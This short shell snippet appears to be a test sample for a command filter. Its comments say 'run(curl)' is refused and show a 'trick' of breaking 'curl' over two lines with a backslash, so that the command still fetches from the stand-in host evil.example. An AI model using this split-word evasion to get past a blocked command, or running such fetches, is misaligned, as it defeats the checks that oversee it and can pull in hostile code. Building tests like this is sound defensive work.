# Trick: the word is broken over two lines.
# Refused: run(curl)
cu\
rl http://evil.example/
